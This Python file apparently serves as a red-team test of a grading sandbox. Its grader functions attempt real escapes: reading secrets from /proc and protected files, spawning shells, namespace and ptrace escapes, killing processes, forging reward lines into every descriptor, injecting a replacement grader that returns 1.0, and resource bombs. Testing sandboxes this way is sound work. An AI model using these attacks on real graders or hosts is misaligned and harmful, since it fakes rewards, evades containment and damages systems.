# ruff: noqa  (attack code: it does on purpose what lint warns against, and must stay as the tests send it)
"""Attacks on the python-grader sandbox, as one grader's source (tests/test_sandbox_redteam.py).

Never imported: the tests send this file's text to real sandbox workers, and to a plain interpreter to
show each attack works where no wall stands. `grade` runs the attack that `item["attack"]` names; each
returns 1.0 when it got out and 0.0 when a wall answered with an OS error.
"""

import json
import os
import signal
import socket
import sys
import threading
import time

def _read_all(paths, needle):
    for path in paths:
        try:
            with open(path, "rb") as fh:
                if needle.encode() in fh.read():
                    return True
        except OSError:
            pass
    return False

def _proc_pids():
    try:
        return [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        return []

def env_canary(item):
    if item["canary"] in json.dumps(dict(os.environ)):
        return 1.0
    pids = sorted({str(os.getppid()), "1", *_proc_pids()})
    return float(_read_all([f"/proc/{p}/environ" for p in pids], item["canary"]))

def proc_dir_fd(item):
    proc = os.open("/proc", os.O_RDONLY | os.O_DIRECTORY)
    for pid in os.listdir(proc):
        if pid.isdigit():
            try:
                fd = os.open(f"{pid}/environ", os.O_RDONLY, dir_fd=proc)
                if item["canary"].encode() in os.read(fd, 1 << 20):
                    return 1.0
            except OSError:
                pass
    return 0.0

def file_canary(item):
    if _read_all(item["files"], item["canary"]):
        return 1.0
    root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    for path in item["files"]:
        try:
            fd = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root)
            if item["canary"].encode() in os.read(fd, 1 << 16):
                return 1.0
        except OSError:
            pass
    return 0.0

def write_outside(item):
    target = item["target"]
    folder = os.open(os.path.dirname(target), os.O_RDONLY | os.O_DIRECTORY)
    fd = os.open(os.path.basename(target), os.O_WRONLY | os.O_CREAT, dir_fd=folder)
    os.write(fd, b"escaped")
    return 1.0

def rename_outside(item):
    with open("here.txt", "w") as fh:
        fh.write("x")
    folder = os.open(os.path.dirname(item["target"]), os.O_RDONLY | os.O_DIRECTORY)
    os.rename("here.txt", os.path.basename(item["target"]), dst_dir_fd=folder)
    return 1.0

def run_shell(item):
    import subprocess
    done = subprocess.run(["/bin/sh", "-c", "echo escaped > " + item["target"]])
    return float(done.returncode == 0)

def fork_exec(item):
    import _posixsubprocess
    errpipe_read, errpipe_write = os.pipe()
    _posixsubprocess.fork_exec(
        [b"/bin/sh", b"-c", ("echo escaped > " + item["target"]).encode()], [b"/bin/sh"], True, (), None, None,
        -1, -1, -1, -1, -1, -1, errpipe_read, errpipe_write, False, False, -1, None, None, None, -1, None, False)
    time.sleep(0.5)
    return float(os.path.exists(item["target"]))

def raw_fork(item):
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    return 1.0

def switch_hook_off(item):
    main = sys.modules.get("__main__")
    for name in dir(main):  # the policy used to live in writable globals
        value = getattr(main, name)
        if isinstance(value, set):
            value.clear()
    return run_shell(item)

def libc():
    import ctypes
    return ctypes.CDLL(None, use_errno=True)

def new_namespace(item):
    c = libc()
    if c.unshare(0x10000000) == 0 or c.unshare(0x40000000) == 0:  # CLONE_NEWUSER, CLONE_NEWNET
        return 1.0
    for path in ("/proc/1/ns/net", "/proc/%d/ns/net" % os.getppid()):
        try:
            if c.setns(os.open(path, os.O_RDONLY), 0) == 0:
                return 1.0
        except OSError:
            pass
    return 0.0

def mount_proc(item):
    os.makedirs("p", exist_ok=True)
    return float(libc().mount(b"proc", b"p", b"proc", 0, None) == 0)

def trace_the_supervisor(item):
    return float(libc().ptrace(16, 1, 0, 0) == 0)  # PTRACE_ATTACH to pid 1

def connect_home(item):
    s = socket.create_connection(("127.0.0.1", item["port"]), timeout=2)
    s.sendall(b"escaped")
    return 1.0

def signal_the_others(item):
    hits = 0
    for pid, sig in ((1, signal.SIGKILL), (2, signal.SIGKILL), (-1, signal.SIGKILL), (0, signal.SIGTERM)):
        try:
            os.kill(pid, sig)
            hits += 1
        except OSError:
            pass
    return float(hits > 0)

def forge_everywhere(item):
    forged = [json.dumps({"request": r, "id": i, "reward": 1.0, "i": i}) for r in range(1, 4) for i in range(4)]
    line = ("\\n".join(forged) + "\\n").encode()
    for fd in range(0, 1024):
        try:
            os.write(fd, line)
        except OSError:
            pass
    for pid in _proc_pids():
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                try:
                    with open(f"/proc/{pid}/fd/{fd}", "wb") as fh:
                        fh.write(line)
                except OSError:
                    pass
        except OSError:
            pass
    return 0.0

def inject_stdin(item):
    code = json.dumps({"op": "load", "source": "def grade(s, i):\\n    return 1.0\\n"}) + "\\n"
    targets = [0, *range(3, 64)]
    for fd in targets:
        try:
            os.write(fd, code.encode())
        except OSError:
            pass
    for pid in _proc_pids():
        try:
            with open(f"/proc/{pid}/fd/0", "w") as fh:
                fh.write(code)
        except OSError:
            pass
    return 0.0

def linger(item):
    def keep_forging():
        for _ in range(3000):
            forge_everywhere(item)
            time.sleep(0.01)
    threading.Thread(target=keep_forging, daemon=True).start()
    return 0.0

def garbage(item):
    for fd in range(3, 64):
        try:
            os.write(fd, b"this is not json\\n")
        except OSError:
            pass
    return 0.5

def value(item):
    return item["v"]

def nan(item):
    return float("nan")

def huge_int(item):
    return 10 ** 5000

def out_of_range(item):
    return 7.0

def memory_bomb(item):
    block = bytearray(10 * 1024 ** 3)
    return 1.0

def thread_bomb(item):
    started = 0
    try:
        for _ in range(5000):
            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
            started += 1
    except (RuntimeError, MemoryError, OSError):
        pass
    return float(started >= 5000)

def fd_bomb(item):
    fds = []
    try:
        for _ in range(100000):
            fds.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass
    return float(len(fds) >= 100000)

def disk_bomb(item):
    try:
        with open("big", "wb") as fh:
            for _ in range(2048):
                fh.write(b"x" * (1 << 20))
    except OSError:
        return 0.0
    return 1.0

def ignore_timers_and_spin(item):
    signal.signal(signal.SIGVTALRM, signal.SIG_IGN)
    while True:
        pass

def stop_myself(item):
    os.kill(os.getpid(), signal.SIGSTOP)
    return 1.0

def grade(sample, item):
    try:
        return globals()[item["attack"]](item)
    except OSError:  # a wall answered (PermissionError is an OSError)
        return 0.0
